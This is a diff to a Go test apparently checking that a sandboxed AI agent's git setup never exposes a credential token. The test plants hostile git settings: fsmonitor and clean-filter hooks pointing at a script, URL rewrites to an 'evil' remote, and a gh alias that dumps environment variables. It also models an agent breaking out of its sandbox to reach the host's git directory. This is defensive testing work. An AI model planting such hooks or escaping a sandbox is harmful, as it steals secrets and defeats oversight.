@@ -256,11 +256,17 @@ func TestAgentGitConfigNeverSeesTheToken(t *testing.T) {
 		_ = os.Remove(filepath.Join(ws, ".git"))
 		r.remote.Git(dir, "init", "--quiet", ws)
 	}
-	for _, kv := range [][2]string{
-		{"core.fsmonitor", script}, {"filter.steal.clean", script}, {"filter.steal.required", "true"},
-		{"url." + evil + ".insteadOf", r.remote.Dir}, {"url." + evil + ".pushInsteadOf", r.remote.Dir},
-	} {
-		r.remote.Git(ws, "config", kv[0], kv[1])
+	// An agent outside its sandbox reaches the host's git directory too.
+	for _, at := range []string{"--git-dir=" + filepath.Join(ws, ".git"), "--git-dir=" + r.job.Paths.Git} {
+		for _, kv := range [][2]string{
+			{"core.fsmonitor", script}, {"filter.steal.clean", script}, {"filter.steal.required", "true"},
+			{"url." + evil + ".insteadOf", r.remote.Dir}, {"url." + evil + ".pushInsteadOf", r.remote.Dir},
+		} {
+			r.remote.Git(ws, at, "config", kv[0], kv[1])
+		}
+	}
+	if err := os.WriteFile(filepath.Join(r.job.Paths.Git, "info", "attributes"), []byte("* filter=steal\n"), 0o644); err != nil {
+		t.Fatal(err)
 	}
 	r.edit(".gitattributes", "* filter=steal\n")
 	ghConfig := "aliases:\n  api: '!env >> " + capture + "'\n"
